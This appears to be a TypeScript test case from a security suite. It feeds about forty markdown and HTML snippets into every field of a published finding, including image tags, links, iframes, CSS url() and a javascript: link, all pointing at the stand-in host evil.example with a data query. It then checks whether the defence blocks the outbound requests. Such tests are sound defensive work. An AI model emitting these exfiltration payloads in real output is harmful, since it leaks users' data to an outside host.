import { type HostileCase, judge } from '../case.ts';
import { actsInAll } from '../kit/acts.ts';
import { markdownOf, publish } from '../kit/publish.ts';

const EVIL = 'https://evil.example/i.png?d=data';

/** Everything that makes a browser or GitHub's image proxy ask a foreign host, or a reader follow a link. */
const SNIPPETS: readonly string[] = [
  `![x](${EVIL})`,
  `![x](<${EVIL}>)`,
  `![x](${EVIL} "title")`,
  `![][a]\n\n[a]: ${EVIL}`,
  `![a]\n\n[a]: ${EVIL}`,
  `<img src="${EVIL}">`,
  `<img src=${EVIL} width=1>`,
  `<IMG SRC='${EVIL}'/>`,
  `<picture><source srcset="${EVIL}"><img src="${EVIL}"></picture>`,
  `<video src="${EVIL}"></video>`,
  `<a href="${EVIL}">here</a>`,
  `<div style="background:url(${EVIL})">x</div>`,
  `<details open><summary>x</summary><img src="${EVIL}"></details>`,
  `[click](${EVIL})`,
  `[click](javascript:alert(1))`,
  `[click][b]\n\n[b]: ${EVIL}`,
  `<${EVIL}>`,
  `see ${EVIL} for more`,
  `see www.evil.example/path`,
  `**bold ![x](${EVIL}) bold**`,
  `> ![x](${EVIL})`,
  `- ![x](${EVIL})`,
  `| a |\n| - |\n| ![x](${EVIL}) |`,
  `# ![x](${EVIL})`,
  `\\\\![x](${EVIL})`,
  `[![x](${EVIL})](${EVIL})`,
  `![x\n](${EVIL})`,
  `![x](\n${EVIL}\n)`,
  `\`\`\`\n\`\`\`\n![x](${EVIL})`,
  `\`\`\`\n![x](${EVIL})`,
  `\`unclosed ![x](${EVIL})`,
  `[^1]\n\n[^1]: ${EVIL}`,
  `<!-- --> <img src="${EVIL}"> <!-- -->`,
  `&lt;img&gt; <img src="${EVIL}">`,
  `<svg><image href="${EVIL}"/></svg>`,
  `<iframe src="${EVIL}"></iframe>`,
  `<base href="${EVIL}">`,
  `<link rel=stylesheet href="${EVIL}">`,
  `x<br><img src="${EVIL}">`,
  `mail <mailto:a@evil.example>`,
  `![x](//evil.example/i.png)`,
];

export const hostile: HostileCase = {
  number: 104,
  title: 'Images and links to a foreign host, in each field of a finding',
  area: 'output',
  lanes: ['unprivileged'],
  async attack(place, defence) {
    const got = await Promise.all(
      SNIPPETS.map(async (snippet, at) => {
        const told = {
          findings: [{ title: snippet, message: snippet, remedy: snippet, suggestion: snippet }],
        };
        const published = await publish(place, { ...told, summary: snippet }, defence);
        const acts = actsInAll(markdownOf(published));
        return [`${at} ${snippet.slice(0, 30)}`, acts] as const;
      }),
    );
    return judge(defence, Object.fromEntries(got));
  },
  seconds: 120,
};
